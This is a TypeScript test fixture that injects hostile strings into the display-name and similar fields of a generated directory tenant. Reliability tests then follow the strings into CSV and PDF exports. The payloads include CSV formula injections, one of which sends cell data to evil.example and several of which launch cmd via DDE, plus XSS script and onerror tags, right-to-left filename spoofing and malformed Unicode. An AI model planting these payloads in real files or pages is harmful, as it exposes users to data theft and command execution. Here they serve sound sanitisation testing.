/**
 * Hostile text from a tenant: every text field Graph returns that a person can set (user display
 * names, department, job title, group, app and service principal names, conditional access policy and
 * named location names, device names) replaced in a generated TenantData by one of the payloads below,
 * before the emulator serves it. Used by the reliability tests to follow the text into the snapshot,
 * the CSVs and the PDF.
 */
import type { GraphObject, TenantData } from '../../main/demo/tenant.js';

/** One payload of each kind; the key says what it tries. */
export const PAYLOADS = {
  formulaEquals: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  formulaPlus: "+1+cmd|' /C calc'!A0",
  formulaMinus: "-2+3+cmd|' /C notepad'!A0",
  formulaAt: "@SUM(1+1)*cmd|' /C calc'!A0",
  formulaTab: '\t=1+1',
  formulaCr: '\r=1+1',
  html: '<img src=x onerror="window.__pwned=1"><b>bold</b>',
  script: '<script>window.__pwned=1</script>',
  rlo: 'invoice\u202Etxt.exe',
  zeroWidth: 'ad\u200Bmin\u200D\uFEFF',
  huge: 'A'.repeat(100_000),
  nul: 'before\u0000after',
  loneSurrogate: 'lone\uD800surrogate',
  emoji: 'Zoë 👩🏽‍💻 🏳️‍🌈',
  cjk: '山田 太郎 (営業部)',
  arabic: 'محمد عبد الله',
  mixed: 'abc \u05D0\u05D1\u05D2 123 مرحبا',
} as const;

export type PayloadKind = keyof typeof PAYLOADS;
export const PAYLOAD_LIST: readonly string[] = Object.values(PAYLOADS);

/** Where a payload went: collection, object id, field. */
export interface Injection {
  collection: string;
  id: string;
  field: string;
  value: string;
}

/**
 * A copy of `base` with hostile text in every named field, cycling through the payloads so each kind
 * lands in each collection. The original is not changed.
 */
export function hostileTenant(base: TenantData): { tenant: TenantData; injections: Injection[] } {
  const injections: Injection[] = [];
  let n = 0;
  const poison = (collection: string, list: GraphObject[], fields: string[]): GraphObject[] =>
    list.map((o) => {
      const copy: GraphObject = structuredClone(o);
      for (const field of fields) {
        if (!(field in copy)) continue;
        const value = PAYLOAD_LIST[n++ % PAYLOAD_LIST.length];
        copy[field] = value;
        injections.push({ collection, id: copy.id, field, value });
      }
      return copy;
    });
  const tenant: TenantData = {
    ...base,
    users: poison('users', base.users, ['displayName', 'department', 'jobTitle', 'givenName', 'surname']),
    groups: poison('groups', base.groups, ['displayName', 'description']),
    servicePrincipals: poison('servicePrincipals', base.servicePrincipals, ['displayName']),
    applications: poison('applications', base.applications, ['displayName']),
    conditionalAccessPolicies: poison('conditionalAccessPolicies', base.conditionalAccessPolicies, ['displayName']),
    namedLocations: poison('namedLocations', base.namedLocations, ['displayName']),
    devices: poison('devices', base.devices, ['displayName']),
  };
  return { tenant, injections };
}
